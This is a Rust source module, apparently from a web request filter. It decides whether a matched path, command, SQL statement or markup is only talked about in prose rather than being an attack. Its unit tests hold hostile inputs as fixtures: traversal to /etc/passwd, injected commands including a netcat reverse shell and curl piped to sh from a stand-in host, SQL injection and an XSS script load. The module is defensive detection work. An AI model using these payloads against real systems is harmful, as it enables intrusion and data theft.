//! Matches that only mention an attack: a path in a sentence, a command in inline code, an import in source code.
//!
//! Text that talks about code holds what attacks consist of. A rule says with `mention` what its matches look like
//! where they are talked about; such a match counts as a notice, and all of a request count as one.

mod quoted;
mod script;
mod vocabulary;

use std::ops::Range;

use memchr::memmem;
use serde::Deserialize;

use self::quoted::{code_span, is_import};
use self::script::is_harmless_script;
use self::vocabulary::prose_words;
use crate::decode::{Buffer, decode_once};

/// What a rule finds, which decides where it may be a mention.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
pub(super) enum Mention {
    /// A path, which opens nothing once words stand before or behind it.
    Path,
    /// A path that climbs, which source code and Markdown have as well.
    RelativePath,
    /// A command: code spans of Markdown, and scripts that only read, build or install.
    Command,
    /// Markup that runs in a browser: only where it calls or loads nothing of an attacker's.
    Markup,
    /// SQL that stands by itself: behind words, it is a syntax error.
    Sql,
}

/// Words beside a match that make a sentence of it.
const MIN_WORDS: usize = 2;
/// Words beside markup or SQL that make a sentence of it: both have words of their own.
const MIN_WORDS_BESIDE_CODE: usize = 3;

/// Bytes before and behind a match that are looked at.
const WINDOW: usize = 4096;

impl Mention {
    /// Reports whether the match at `range` of `text` is only talked about. Looks at [`WINDOW`] bytes around it; of
    /// markup at all of a text that is not longer.
    pub(super) fn covers(self, text: &[u8], range: &Range<usize>) -> bool {
        let start = range.start.saturating_sub(WINDOW);
        let end = range.end.saturating_add(WINDOW).min(text.len());
        if range.len() > WINDOW || self == Self::Markup && text.len() > WINDOW {
            return false;
        }
        // A form as sent has its escapes still.
        let is_escaped = text.get(start..end).is_some_and(|window| window.contains(&b'%'));
        let (mut window, mut part) = (Vec::with_capacity(end - start), Buffer::new());
        let mut ends = [0; 3];
        for (at, end) in [start..range.start, range.clone(), range.end..end].into_iter().zip(&mut ends) {
            let piece = text.get(at).unwrap_or_default();
            if is_escaped {
                decode_once(piece, true, &mut part);
                window.extend_from_slice(&part);
            } else {
                window.extend_from_slice(piece);
            }
            *end = window.len();
        }
        window.make_ascii_lowercase();
        let [start, end, _] = ends;
        self.is_mention(&window, &(start..end))
    }

    /// Reports whether a value of which a normalized path matches is a text of several words, so that the path is none.
    pub(super) fn covers_text(self, value: &[u8]) -> bool {
        let mut text = Buffer::new();
        decode_once(value.get(..WINDOW).unwrap_or(value), true, &mut text);
        let words = prose_words(&text);
        matches!(self, Self::Path | Self::RelativePath)
            && (words > MIN_WORDS_BESIDE_CODE || words >= MIN_WORDS && text.contains(&b'\n'))
    }

    /// Reports whether a match in a user agent is one of the words in its comment: `(Linux; ls; rv 2)`.
    pub(super) fn covers_agent(self, agent: &[u8], range: &Range<usize>) -> bool {
        let part = agent.get(range.clone()).unwrap_or_default();
        let before = agent.get(..range.start).unwrap_or_default();
        self == Self::Command
            && agent.first().is_some_and(u8::is_ascii_alphanumeric)
            && before.contains(&b'/')
            && part.iter().all(|byte| byte.is_ascii_alphanumeric() || b"; )._".contains(byte))
    }

    /// Reports whether what stands behind a mention is one as well, of what is not found by a pattern: markup is judged
    /// as a whole, and words that make a sentence of SQL stand before the rest of it, too.
    pub(super) fn covers_rest(self) -> bool {
        matches!(self, Self::Markup | Self::Sql)
    }

    fn is_mention(self, text: &[u8], range: &Range<usize>) -> bool {
        match self {
            Self::Path => is_path_in_sentence(text, range),
            Self::RelativePath => is_import(text, range) || is_path_in_sentence(text, range),
            Self::Command => is_command_in_code(text, range),
            Self::Markup => {
                let span = code_span(text, range);
                let words = words_beside(text, span.as_ref().unwrap_or(range));
                words >= MIN_WORDS && quoted::is_harmless_markup(text)
            }
            Self::Sql => is_sql_in_sentence(text, range),
        }
    }
}

/// Counts the words of prose before and behind `range`.
fn words_beside(text: &[u8], range: &Range<usize>) -> usize {
    let before = text.get(..range.start).unwrap_or_default();
    let behind = text.get(range.end..).unwrap_or_default();
    prose_words(before) + prose_words(behind)
}

/// Reports whether a path stands in a sentence: as a word of its own, and no command that reads it before it.
fn is_path_in_sentence(text: &[u8], range: &Range<usize>) -> bool {
    let token = word_around(text, range);
    if code_span(text, range).is_some_and(|span| words_beside(text, &span) >= MIN_WORDS) {
        return true;
    }
    let before = text.get(..token.start).unwrap_or_default();
    let words = words_beside(text, &token);
    if script::ends_with_reader(before) {
        return words >= MIN_WORDS_BESIDE_CODE && !script::has_separator(before);
    }
    let inner = text.get(token.clone()).unwrap_or_default();
    let climbs_to_system = inner.starts_with(b"..") && quoted::leads_to_system(inner);
    let is_code = inner.iter().any(|byte| b"\0<>{}$|;&=".contains(byte));
    words >= MIN_WORDS && !quoted::is_in_call(before) && !climbs_to_system && !is_code
}

/// Extends `range` to the blanks, quotes or brackets around it.
fn word_around(text: &[u8], range: &Range<usize>) -> Range<usize> {
    let ends = |byte: &u8| byte.is_ascii_whitespace() || b"'\"`()[],".contains(byte);
    let before = text.get(..range.start).unwrap_or_default();
    // A pattern may take in the blank before the path.
    let first =
        text.get(range.clone()).and_then(|part| part.iter().position(|byte| !ends(byte))).unwrap_or(0);
    let start =
        if first > 0 { range.start + first } else { before.iter().rposition(ends).map_or(0, |at| at + 1) };
    let behind = text.get(range.end..).unwrap_or_default();
    let end = range.end + behind.iter().position(ends).unwrap_or(behind.len());
    start..end
}

/// Reports whether a command stands in a code span of a sentence, in a fenced block, or in a script that does no harm.
fn is_command_in_code(text: &[u8], range: &Range<usize>) -> bool {
    if let Some(span) = code_span(text, range) {
        let code = text.get(span.clone()).unwrap_or_default();
        // Two backticks around one command are a substitution, unless words say that they are none.
        if words_beside(text, &span) >= MIN_WORDS || is_harmless_script(code) {
            return true;
        }
    }
    is_harmless_script(text)
}

/// Reports whether words stand before a statement and no quote that it could have closed.
fn is_sql_in_sentence(text: &[u8], range: &Range<usize>) -> bool {
    let before = text.get(..range.start).unwrap_or_default();
    // Two words may be a table and its alias, where an application puts the value so; but not with a colon.
    let has_mark = before.contains(&b'\n') || before.contains(&b'`') || memmem::find(before, b": ").is_some();
    let least = if has_mark { MIN_WORDS } else { MIN_WORDS_BESIDE_CODE };
    prose_words(before) >= least && !before.iter().any(|byte| b"'\"".contains(byte))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Judges the part of `text` between `<<` and `>>`.
    fn is_mention(mention: Mention, text: &str) -> bool {
        let (before, rest) = text.split_once("<<").unwrap();
        let (part, behind) = rest.split_once(">>").unwrap();
        let whole = format!("{before}{part}{behind}");
        mention.is_mention(whole.as_bytes(), &(before.len()..before.len() + part.len()))
    }

    #[test]
    fn path_in_sentence_is_mention() {
        for text in [
            "the accounts are in <</etc/passwd>>, one a line",
            "<</proc/cpuinfo>> shows eight cores",
            "is <<win.ini>> still needed?",
            "sudo vi <</etc/fstab>>, then reboot the whole machine",
        ] {
            assert!(is_mention(Mention::Path, text), "{text}");
        }
        for text in [
            "<</etc/passwd>>",
            "cat <</etc/passwd>>",
            "hello; cat <</etc/passwd>>",
            "x /a/<</etc/passwd>>",
            "include('<</etc/passwd>>')",
            "a=<</etc/passwd>>&b=the file is here",
            "please read this file now; cat <</etc/passwd>>",
        ] {
            assert!(!is_mention(Mention::Path, text), "{text}");
        }
    }

    #[test]
    fn import_is_mention() {
        for text in [
            "import a from '<<../../../>>a'",
            "#include \"<<../../../>>src/x.h\"",
            "`<<../../../>>a.ts`",
            "webpack:///<<../../../>>node_modules/x.js",
            "[guide](<<../../../>>guide.md)",
            "see <<../../../>>docs/x.md please",
            "cd <<../../..>> && make",
        ] {
            assert!(is_mention(Mention::RelativePath, text), "{text}");
        }
        for text in [
            "<<../../../>>x",
            "include('<<../../../>>etc/passwd')",
            "a.php?f=<<../../../>>x",
            "import x from '<<../../../>>etc/passwd'",
        ] {
            assert!(!is_mention(Mention::RelativePath, text), "{text}");
        }
    }

    #[test]
    fn command_in_code_is_mention() {
        for text in [
            "what does `curl https://example.com/a.sh <<| sh>>` do?",
            "`ls <<| sort>>`",
            "dmesg <<| grep usb>>",
            "git add . <<&& git commit>>",
            "pip install x<<; python -m x>>",
            "Output:\n```sh\nps aux <<| grep web>>\n```\nthat is all",
        ] {
            assert!(is_mention(Mention::Command, text), "{text}");
        }
        for text in [
            "x<<; cat /etc/passwd>>",
            "a[<<`id`>>]",
            "`curl http://x.example/a <<| sh>>`",
            "<<`id`>>",
            "ls<<; whoami>>",
            "8.8.8.8 <<| grep a>>",
            "please show me the time<<; cat /etc/passwd>>",
            "git log<<; nc -e sh 192.0.2.1 80>>",
        ] {
            assert!(!is_mention(Mention::Command, text), "{text}");
        }
    }

    #[test]
    fn sql_behind_words_is_mention() {
        assert!(is_mention(Mention::Sql, "My slow query is this: <<select a, b from t>> where a = 1"));
        assert!(!is_mention(Mention::Sql, "1 <<union select 1,2>>"));
        assert!(!is_mention(Mention::Sql, "it's what my friend said<<; drop table x>>"));
    }

    #[test]
    fn markup_is_mention_only_if_harmless() {
        assert!(is_mention(Mention::Markup, "Put `<<<script src=\"x.js\">>>` before the closing tag"));
        assert!(!is_mention(Mention::Markup, "Put this `<<<script>>>alert(1)</script>` before the tag"));
        assert!(!is_mention(
            Mention::Markup,
            "Put `<<<script src=\"//x.example/a.js\">>>` before the closing tag"
        ));
    }
}
